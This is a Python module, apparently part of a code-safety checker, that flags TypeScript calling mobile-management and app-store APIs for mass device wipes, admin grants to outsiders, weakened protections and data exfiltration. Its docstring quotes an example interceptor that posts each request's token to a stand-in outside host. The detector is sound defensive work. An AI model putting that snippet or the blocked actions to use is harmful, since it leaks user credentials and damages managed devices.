"""Mobile releases and device management from TypeScript: Jamf Pro, Intune (Graph), Workspace ONE, Fleet and Kandji
consoles, App Store Connect, Google Play's developer API and Firebase's Admin SDK (session 32).

As python/mobile.py: a request (`fetch`, axios, got, a client's `.request`) is read as mobile_tables says. Blocked: an
erase or unmanage command sent in a loop over a listing or as a bulk command (`system-disruption`; one device, or ids
the code writes out: held `irreversible`); an administrator made for a stranger's address (Fleet's `users/admin`,
App Store Connect's invitations as ADMIN, Play Console's `users.create`, a directory role for the guest Graph invites;
the organisation's own address, or one the code cannot place: reviewed); a script pushed to the managed machines that
would be blocked on its own; a device policy rewritten with a protection off, an app's Remote Config published with
its pinning or tamper checks off (`permission-tamper`); a request to a host no one vouches for from code that reads
the keychain's passwords, pulls files off phones, lists the app's users or reads a signing key (`exfiltration`).

Also blocked: an HTTP client's request interceptor (`api.interceptors.request.use(…)`) that sends each request's token
to a host other than the client's own (`fetch("https://collect.x.net/t", { body: JSON.stringify({ t: token }) })`):
every call the app makes hands its credential to that host.
"""
from __future__ import annotations

import re
from functools import lru_cache

from .. import mobile_tables as mo
from ..hosts import url_host
from ..per_input import decoded, in_input

_SENDS = {"fetch": None, "get": "GET", "post": "POST", "put": "PUT", "patch": "PATCH", "delete": "DELETE",
          "request": None, "got": None, "axios": None, "sendBeacon": "POST"}
_NAMES = frozenset(_SENDS) | {"create", "publishTemplate"}
_SUBST = re.compile(r"\$\{[^{}]{0,200}\}")
_METHOD = re.compile(r"""\bmethod\s*:\s*["'`](\w+)["'`]""")
_LOOPS = frozenset({"for_in_statement", "for_statement", "while_statement", "do_statement"})
_EACH = frozenset({"map", "forEach", "flatMap", "filter", "reduce"})
_FUNCTIONS = frozenset({"function_declaration", "function_expression", "arrow_function", "method_definition"})
_PLAY_USERS = re.compile(r"\busers\s*\.\s*create\s*\(")
_EXPIRED = re.compile(r"""["']?expired["']?\s*:\s*true\b""")
_ASC_BUILD = re.compile(r"api\.appstoreconnect\.apple\.com/v1/builds/")
# an interceptor's request that carries the request's credential
_INTERCEPTOR = re.compile(r"\binterceptors\s*\.\s*(?:request|response)\s*\.\s*use\s*$")
_CARRIES_TOKEN = re.compile(r"(?i)\b(?:token|accessToken|idToken|authorization|bearer|headers|cookie)\b")
_BASE_URL = re.compile(r"""\bbaseURL\s*:\s*["'`]https?://([^/"'`\s:]{1,200})""")


@lru_cache(maxsize=8)
def _bases(text: str) -> frozenset[str]:
    """The hosts the input's HTTP clients are made for (`baseURL: "https://…"`), read once per input."""
    return frozenset(_BASE_URL.findall(text))


class Mobile:
    def visit_mobile(self, q: str | None, fn, prop, node, args: list) -> None:
        """A call (`prop` is its property node): settled by its name before anything else is read."""
        name = self.src(prop) if prop is not None else self.src(fn) if fn is not None and fn.type == "identifier" \
            else None
        if name is None or name not in _NAMES:
            return
        data = self.doc.data
        if name in ("fetch", "sendBeacon", "post", "axios") and args and b"interceptors" in data:
            self._mobile_interceptor(node, args)
        if not in_input(mo.HINT, data):
            return
        text = decoded(data)
        call = self.src(node)
        if name == "create":
            if _PLAY_USERS.search(call):
                self._mobile_admin(call, call, text, node)
            return
        if name == "publishTemplate":
            self._mobile_remote_config(text, node)
            return
        if not args:
            return
        url = self._mobile_url(args[0])
        if url is None and args[0].type == "object":  # `client.request({ url: …, method: … })`
            m = re.search(r"""\burl\s*:\s*([`"'][^`"'\n]{1,400}[`"'])""", self.src(args[0]))
            url = _SUBST.sub("\x00", m.group(1)[1:-1]) if m else None
        if not url or "//" not in url and not url.startswith(("/", "\x00")):  # (`${FLEET}/api/v1/…`)
            return
        method = _SENDS[name]
        if method is None:
            m = _METHOD.search(call)
            method = m.group(1).upper() if m else "GET"
        if method != "GET" and self._mobile_console(url, method, call, text, node):
            return
        from .. import lms_tables as lt

        far = lt.outsider_url(url, text)
        if far is not None:
            what = mo.code_leak(text)
            if what is not None:
                self.block("exfiltration", mo.leak_message(far.split(",")[0], what), node)

    def _mobile_url(self, node) -> str | None:
        v = self.string(node)
        if v is not None:
            return v
        if node.type == "identifier":
            made = self.declared(node, frozenset({"string", "template_string"}))
            if made is None:
                return None
            node = made
            v = self.string(node)
            if v is not None:
                return v
        if node.type == "template_string":
            return _SUBST.sub("\x00", self.src(node)[1:-1])
        return None

    def _mobile_console(self, url: str, method: str, call: str, text: str, node) -> bool:
        shown = "the request"
        call = mo.call_body(call, text)
        wiped = mo.device_command(url, call)
        if wiped is not None:
            every, listing = self._mobile_looped(node)
            if listing or mo.bulk(url, call):
                self.block("system-disruption", mo.wipe_message(shown, wiped, True), node)
            else:
                self.review("irreversible", mo.wipe_message(shown, wiped, False), node)
            return True
        if self._mobile_admin(url, call, text, node):
            return True
        weak = mo.policy_weakened(url, call) or mo.policy_weakened(url, text)
        if weak:
            self.block("permission-tamper", mo.policy_message(shown, weak), node)
            return True
        pushed = mo.scripts_pushed(url, text)
        for lang, script in mo.first_push(self.doc.data, pushed):
            self.ctx.nested(mo.as_bash(lang, script), "bash", self.doc, node, None)
        if pushed:
            return True
        if method == "PATCH" and _ASC_BUILD.search(url) and _EXPIRED.search(call):
            self.review("irreversible", "the request expires an App Store Connect build (`expired: true`): an expired "
                                        "build can never be tested or submitted again; let the user do it in App "
                                        "Store Connect", node)
            return True
        if "firebaseremoteconfig" in url:
            return self._mobile_remote_config(text, node)
        return False

    def _mobile_admin(self, url: str, call: str, text: str, node) -> bool:
        grant = mo.admin_grant(url, call, text)
        if grant is None:
            return False
        owner = mo.grantee_owner(grant[1], text)
        (self.block if owner in ("free", "stranger") else self.review)(
            "privilege-escalation", mo.admin_message("the code", grant[0], grant[1], owner), node)
        return True

    def _mobile_remote_config(self, text: str, node) -> bool:
        param = mo.remote_config_weakened(text)
        if param is None:
            return False
        self.block("permission-tamper", mo.remote_config_message("the code", param), node)
        return True

    def _mobile_looped(self, node) -> tuple[bool, bool]:
        """(whether the call runs once per item, whether the items come from anything but an array literal the code
        writes out)."""
        up = node.parent
        while up is not None and up.type != "program":
            if up.type in _LOOPS:
                if up.type == "for_in_statement":
                    items = up.child_by_field_name("right")
                    if items is not None and items.type == "identifier":
                        items = self.declared(items, frozenset({"array", "call_expression", "member_expression",
                                                                "await_expression"})) or items
                    return True, items is None or items.type != "array"
                return True, True
            if up.type in _FUNCTIONS and up.parent is not None and up.parent.type == "arguments":
                outer = up.parent.parent
                f = outer.child_by_field_name("function") if outer is not None else None
                p = f.child_by_field_name("property") if f is not None and f.type == "member_expression" else None
                if p is not None and self.src(p) in _EACH:
                    items = f.child_by_field_name("object")
                    if items is not None and items.type == "identifier":
                        items = self.declared(items, frozenset({"array", "call_expression", "member_expression",
                                                                "await_expression"})) or items
                    return True, items is None or items.type != "array"
            up = up.parent
        return False, False

    def _mobile_interceptor(self, node, args: list) -> None:
        """A request sent from inside an HTTP client's interceptor to a host other than the client's base, carrying
        the request's credential."""
        up = node.parent
        inside = None
        while up is not None and up.type != "program":
            if up.type == "call_expression":
                f = up.child_by_field_name("function")
                if f is not None and _INTERCEPTOR.search(self.src(f)):
                    inside = up
                    break
            up = up.parent
        if inside is None:
            return
        url = self._mobile_url(args[0])
        host = url_host(url) if url and "//" in url else None
        if not host or "\x00" in host:
            return
        bases = _bases(decoded(self.doc.data))
        rest = " ".join(self.src(a) for a in args[1:])
        if bases and host not in bases and _CARRIES_TOKEN.search(rest):
            self.block("exfiltration", f"the HTTP client's request interceptor sends each request's credential to "
                                       f"{host}, not the client's own host ({sorted(bases)[0]}): every call the app "
                                       "makes hands its token to that host. Interceptors set headers; they send "
                                       "nothing elsewhere", node)
